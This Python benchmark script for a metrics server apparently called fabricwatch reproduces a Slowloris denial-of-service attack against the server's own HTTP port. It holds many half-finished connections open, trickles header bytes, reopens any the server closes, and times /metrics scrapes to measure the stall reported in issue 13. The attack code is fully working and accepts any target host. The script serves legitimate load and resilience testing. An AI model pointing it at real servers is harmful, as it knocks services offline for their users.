#!/usr/bin/env python3
"""Slowloris against fabricwatch's HTTP port, with the scrape latency a real scraper sees.

Opens N connections that send an incomplete request head and then trickle one header byte
every TRICKLE seconds (or nothing, with --silent), never finishing it, and opens a new one for
each the server closes; while they are held,
it scrapes PATH SCRAPES times on fresh connections and prints each scrape's latency. This is
issue 13's measurement: with civetweb (one worker per connection from accept until the head
is read), as many trickling connections as worker threads stalled /metrics for seconds.

  bench/http_slowloris.py [--host 127.0.0.1] --port PORT [--connections 300] [--trickle 0.05]
                          [--silent] [--no-reconnect] [--processes 1] [--sources A,B]
                          [--nice 0] [--scrapes 10] [--path /metrics] [--timeout 60]
e.g. build/fabricwatch serve --web.listen-address=127.0.0.1:29736 &
     bench/http_slowloris.py --port 29736 --connections 300
"""
import argparse
import multiprocessing
import os
import selectors
import socket
import statistics
import sys
import threading
import time


def attacker(args, ready, stop, opened):
    """Holds N slow connections; one the server closes is opened again, as a real attacker
    would, so a server that merely times connections out still has them all occupied."""
    sel = selectors.DefaultSelector()
    head = b"GET " + args.path.encode() + b" HTTP/1.1\r\nHost: x\r\n"
    stats = {"connects": 0, "closed_by_server": 0}

    def open_one():
        try:
            s = socket.create_connection((args.host, args.port), timeout=5,
                                         source_address=(args.source, 0) if args.source else None)
            s.setblocking(False)
            s.send(head)
            sel.register(s, selectors.EVENT_READ)
            stats["connects"] += 1
        except OSError:
            pass

    for _ in range(args.connections):
        open_one()
    opened.append(len(sel.get_map()))
    ready.set()
    i = 0
    next_tick = time.monotonic()
    while not stop.is_set():
        timeout = max(0.0, next_tick - time.monotonic())
        for key, _ in sel.select(timeout):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed by the server: come back
                sel.unregister(s)
                s.close()
                stats["closed_by_server"] += 1
                if not args.no_reconnect:
                    open_one()
        if time.monotonic() >= next_tick:
            next_tick += args.trickle
            if not args.silent:
                for key in list(sel.get_map().values()):
                    try:
                        key.fileobj.send(b"X-%d: a\r\n" % i if i % 8 == 0 else b"a")
                    except OSError:
                        pass
            i += 1
    opened.append(len(sel.get_map()))
    opened.append(stats)
    for key in list(sel.get_map().values()):
        key.fileobj.close()


def attacker_process(args, stop, queue):
    if args.nice:
        os.nice(args.nice)
    ready, opened = threading.Event(), []
    t = threading.Thread(target=attacker, args=(args, ready, stop, opened), daemon=True)
    t.start()
    ready.wait()
    queue.put(opened[0])
    t.join()
    queue.put((opened[1], opened[2]))


def scrape(args):
    start = time.monotonic()
    try:
        s = socket.create_connection((args.host, args.port), timeout=args.timeout)
        s.settimeout(args.timeout)
        s.sendall(b"GET " + args.path.encode() + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        s.close()
        ok = data.startswith(b"HTTP/1.1 200")
    except OSError:
        ok = False
    return time.monotonic() - start, ok


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--connections", type=int, default=300)
    p.add_argument("--trickle", type=float, default=0.05, help="seconds between bytes")
    p.add_argument("--silent", action="store_true", help="send nothing after the first bytes")
    p.add_argument("--no-reconnect", action="store_true", help="do not replace closed connections")
    p.add_argument("--processes", type=int, default=1, help="attacker processes")
    p.add_argument("--sources", default="",
                   help="source addresses of the attackers, one per process in turn "
                        "(e.g. 127.0.0.2,127.0.0.3); the scraper connects from the default")
    p.add_argument("--nice", type=int, default=0,
                   help="niceness of the attacker processes: on one machine they would otherwise "
                        "take the server's CPU, which a remote attacker cannot")
    p.add_argument("--scrapes", type=int, default=10)
    p.add_argument("--path", default="/metrics")
    p.add_argument("--timeout", type=float, default=60)
    args = p.parse_args()

    # Each attacker process holds its share of the connections (one Python thread cannot
    # reconnect faster than a few hundred per second; a server that times heads out quickly
    # must be pressed harder than that).
    per = [args.connections // args.processes + (1 if i < args.connections % args.processes else 0)
           for i in range(args.processes)]
    ctx = multiprocessing.get_context("fork")
    stop = ctx.Event()
    queue = ctx.Queue()
    procs = []
    sources = args.sources.split(",") if args.sources else [None]
    for i, n in enumerate(per):
        a = argparse.Namespace(**vars(args))
        a.connections = n
        a.source = sources[i % len(sources)]
        pr = ctx.Process(target=attacker_process, args=(a, stop, queue))
        pr.start()
        procs.append(pr)
    held = sum(queue.get() for _ in procs)
    time.sleep(1)  # let the server take the connections in
    results = [scrape(args) for _ in range(args.scrapes)]
    stop.set()
    ends = [queue.get() for _ in procs]
    for pr in procs:
        pr.join()
    opened = [held, sum(e[0] for e in ends),
              {k: sum(e[1][k] for e in ends) for k in ("connects", "closed_by_server")}]
    lat = [r[0] for r in results]
    failed = sum(1 for r in results if not r[1])
    mode = "silent" if args.silent else "trickle %gs" % args.trickle
    stats = opened[2]
    print("slow connections held %d (open at the end %d, %s; %d connects, %d closed by the server)"
          % (opened[0], opened[1], mode, stats["connects"], stats["closed_by_server"]))
    print("scrapes %d, failed %d, latency s: min %.3f median %.3f max %.3f"
          % (len(lat), failed, min(lat), statistics.median(lat), max(lat)))
    print("reproduce: bench/http_slowloris.py --host %s --port %d --connections %d%s --scrapes %d --path %s"
          % (args.host, args.port, args.connections,
             (" --silent" if args.silent else " --trickle %g" % args.trickle)
             + (" --no-reconnect" if args.no_reconnect else "")
             + (" --processes %d" % args.processes if args.processes > 1 else "")
             + (" --sources %s" % args.sources if args.sources else "")
             + (" --nice %d" % args.nice if args.nice else ""), args.scrapes, args.path))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
